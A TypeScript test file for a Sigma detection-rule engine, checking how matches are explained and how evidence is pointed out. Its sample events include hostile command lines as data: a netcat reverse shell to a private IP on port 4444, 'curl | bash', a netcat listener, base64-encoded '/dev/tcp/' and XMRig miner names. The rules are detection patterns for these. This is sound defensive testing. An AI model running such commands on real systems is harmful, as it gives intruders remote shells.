import { describe, expect, it } from 'vitest';
import { type CompiledRule, formatExplanation, type SigmaEvent } from '../../src/sigma/index.ts';
import { command, compile, eventOf, process, select } from './support.ts';

/** Each piece of evidence as the text that it points at. */
function quotes(rule: CompiledRule, event: SigmaEvent): string[] {
  return (rule.match(event)?.evidence ?? []).map(({ field, literal, span, element }) => {
    const value = event.fields[field];
    const text = String(element === undefined ? value : (value as unknown[])[element]);
    return `${field} ${literal} → ${span === undefined ? '' : text.slice(...span)}`;
  });
}

describe('evidence', () => {
  it('points at what met each value', () => {
    const rule = select("Image|endswith: /nc\nCommandLine|contains|all: [' -E ', 4444]\nUser: ROOT");
    const event = process({ Image: '/bin/nc', CommandLine: 'nc -e sh 10.0.0.1 4444', User: 'root' });
    expect(quotes(rule, event)).toEqual([
      'Image /nc → /nc',
      'CommandLine  -E  →  -e ',
      'CommandLine 4444 → 4444',
      'User ROOT → root',
    ]);
  });

  it('has every alternative that holds, and nothing of what is negated', () => {
    const rule = compile(
      'sel_a:\n  CommandLine|contains: [curl, wget, bash]\nsel_b:\n  User: root\nflt:\n  User: guest\ncondition: 1 of sel_* and not flt',
    );
    expect(quotes(compile('a:\n  User: x\ncondition: not not a'), process({ User: 'x' }))).toEqual([]);
    expect(quotes(rule, process({ CommandLine: 'curl x | bash', User: 'joe' }))).toEqual([
      'CommandLine curl → curl',
      'CommandLine bash → bash',
    ]);
  });

  it('names the selection, the line, and the element of a list', () => {
    const match = select('User|contains: oo').match(process({ User: ['joe', 'root'] }));
    expect(match?.evidence).toEqual([
      {
        selection: 'selection',
        key: 'User|contains',
        field: 'User',
        literal: 'oo',
        element: 1,
        span: [1, 3],
      },
    ]);
  });

  it('of patterns, keywords, encodings, networks and numbers', () => {
    expect(quotes(select("CommandLine|re: '-[a-z]+p'"), command('nc -lvp 1'))).toEqual([
      'CommandLine -[a-z]+p → -lvp',
    ]);
    expect(quotes(select('- xmr*g'), process({ Image: '/x/XMRig', User: 'x' }))).toEqual([
      'Image xmr*g → XMRig',
    ]);
    const encoded = Buffer.from('a /dev/tcp/ b').toString('base64');
    expect(quotes(select('CommandLine|base64offset|contains: /dev/tcp/'), command(encoded))).toEqual([
      'CommandLine /dev/tcp/ → vZGV2L3RjcC',
    ]);
    const event = eventOf('network_connection', 'linux', { DestinationIp: '10.0.0.7', DestinationPort: 80 });
    expect(
      quotes(select('DestinationIp|cidr: 10.0.0.0/8\nDestinationPort|lt: 1024', 'network_connection'), event),
    ).toEqual(['DestinationIp 10.0.0.0/8 → 10.0.0.7', 'DestinationPort 1024 → 80']);
  });

  it('has no place where there is no text', () => {
    expect(select('User: null').match(process({}))?.evidence).toEqual([
      { selection: 'selection', key: 'User', field: 'User', literal: 'null' },
    ]);
  });

  it('keeps offsets where letters change their length in lower case', () => {
    const rule = select('CommandLine|contains: XMRIG');
    expect(quotes(rule, command('İİİ xmrig'))).toEqual(['CommandLine XMRIG → xmrig']);
  });

  it('is bounded', () => {
    const many = Array.from({ length: 50 }, (_, index) => `x${index}`);
    const rule = select(`CommandLine|contains: [${many.join(', ')}]`);
    expect(rule.match(command(many.join(' ')))?.evidence).toHaveLength(8);
  });
});

describe('explain', () => {
  const rule = compile(
    "selection_img:\n  Image|endswith: /nc\nselection_cli:\n  CommandLine|contains|all: [' -e ', /bin/]\n  User: root\nfilter_main_local:\n  CommandLine|contains: localhost\ncondition: all of selection_* and not 1 of filter_main_*",
  );
  const lines = (fields: Record<string, string>) => formatExplanation(rule.explain(process(fields)));

  it('shows what held', () => {
    expect(lines({ Image: '/bin/nc', CommandLine: 'nc -e /bin/sh', User: 'root' })).toEqual([
      '+ all of',
      '  + all of selection_*',
      '    + selection_img',
      '      + Image|endswith: Image has "/nc"',
      '    + selection_cli',
      '      + all of',
      '        + CommandLine|contains|all: CommandLine has " -e ", CommandLine has "/bin/"',
      '        + User: User has "root"',
      '  + not',
      '    - 1 of filter_main_*',
      '      - filter_main_local',
      '        - CommandLine|contains: CommandLine is "nc -e /bin/sh"',
    ]);
  });

  it('shows what did not, and why', () => {
    expect(lines({ Image: '/usr/bin/nc.traditional', CommandLine: 'nc -e sh localhost' })).toEqual([
      '- all of',
      '  - all of selection_*',
      '    - selection_img',
      '      - Image|endswith: Image is "/usr/bin/nc.traditional"; \'/nc\' is there, but not at the end',
      '    - selection_cli',
      '      - all of',
      "        - CommandLine|contains|all: 1 of 2 values are there; missing '/bin/'",
      '        - User: the event has no User',
      '  - not',
      '    + 1 of filter_main_*',
      '      + filter_main_local',
      '        + CommandLine|contains: CommandLine has "localhost"',
    ]);
  });

  it('says how far a rule was from matching', () => {
    const distance = (fields: Record<string, string>) => rule.explain(process(fields)).distance;
    expect(distance({ Image: '/bin/nc', CommandLine: 'nc -e /bin/sh', User: 'root' })).toBe(0);
    expect(distance({ Image: '/bin/nc', CommandLine: 'nc -e /bin/sh', User: 'joe' })).toBe(1);
    expect(distance({ Image: '/bin/nc', CommandLine: 'nc -e /bin/sh localhost', User: 'joe' })).toBe(2);
    expect(distance({})).toBe(3);
    const negated = (condition: string) => {
      const rule = compile(`a:\n  User: x\nb:\n  Image: y\ncondition: ${condition}`);
      return rule.explain(process({ User: 'x', Image: 'y' })).distance;
    };
    expect(negated('not (a or b)')).toBe(2);
    expect(negated('not (a and b)')).toBe(1);
  });

  it.each([
    [
      'CommandLine|contains|cased: XY',
      { CommandLine: 'xy' },
      'CommandLine is "xy"; \'XY\' is there in another case',
    ],
    [
      'CommandLine: abc',
      { CommandLine: 'x ABC y' },
      'CommandLine is "x ABC y"; \'abc\' is there, but not as the whole',
    ],
    [
      'CommandLine|startswith: abc',
      { CommandLine: 'x abc' },
      'CommandLine is "x abc"; \'abc\' is there, but not at the start',
    ],
    [
      "CommandLine: '*ab*cd*'",
      { CommandLine: 'cd ab' },
      'CommandLine is "cd ab"; \'*ab*cd*\' is there, but not in that order',
    ],
    [
      "CommandLine|re: 'nc\\s+-e'",
      { CommandLine: 'nc -c' },
      'CommandLine is "nc -c"; the pattern needs \'-e\'',
    ],
    ['LogonId|gt: 5', { LogonId: 3 }, 'LogonId is "3"; asked for gt 5'],
    ['LogonId|gt: 5', { LogonId: 'x' }, 'LogonId is "x"; which is no number'],
    ['User|cidr: 10.0.0.0/8', { User: '11.0.0.1' }, 'User is "11.0.0.1"; which is outside 10.0.0.0/8'],
    ['User|cidr: 10.0.0.0/8', { User: 'x' }, 'User is "x"; which is no IP address'],
    ['User|exists: true', {}, 'the event has no User'],
    ['User|exists: false', { User: '' }, 'the event has User'],
    ['User: x', { User: null }, 'User is null'],
    ['User|neq: x', { User: 'x' }, 'the value is there, and must not be'],
    ['- xmrig', { User: 'x' }, "no field has 'xmrig'"],
    ["'|all':\n  - a\n  - b", { User: 'a' }, "1 of 2 keywords are there; missing 'b'"],
    ['User: x', { User: ['a', 'b', 'c', 'd'] }, 'User is "a", "b", "c", …'],
  ])('%j', (text, fields, why) => {
    const { children } = select(text).explain(process(fields));
    expect(children[0]?.why).toBe(why);
  });

  it('quotes texts of the event in short, control characters escaped', () => {
    const text = `\u001b[31m${'x'.repeat(200)}`;
    const [, line] = formatExplanation(select('CommandLine: y').explain(command(text)));
    expect(line).toBe(`  - CommandLine: CommandLine is "\\u001b[31m${'x'.repeat(75)}…"`);
  });
});
